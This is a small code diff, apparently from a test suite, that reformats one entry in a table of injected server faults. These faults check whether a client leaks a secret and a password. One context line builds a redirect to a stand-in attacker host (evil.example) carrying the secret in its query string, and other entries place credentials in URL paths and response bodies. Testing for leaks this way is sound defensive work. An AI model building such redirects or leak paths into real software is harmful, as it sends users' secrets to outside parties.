@@ -23,7 +23,9 @@ LEAKS = {
     "the send is lost": [Fault("submit", "close", saved=True)],
     "the send is sent away": [Fault("submit", "redirect", location=f"https://evil.example/?s={quote(SECRET)}")],
     "the place tells it": [Fault("submit", "location", location=f"/x/{quote(SECRET, safe='')}/{quote(PASSWORD)}")],
-    "the status tells it": [Fault("status", "custom", status=200, body=f'{{"status":"{SECRET}","message":"{PASSWORD}"}}')],
+    "the status tells it": [
+        Fault("status", "custom", status=200, body=f'{{"status":"{SECRET}","message":"{PASSWORD}"}}')
+    ],
     "the results tell it": [Fault("results", "custom", status=403, body=f'{{"message":"{SECRET} {PASSWORD}"}}')],
 }
 COMMANDS = [
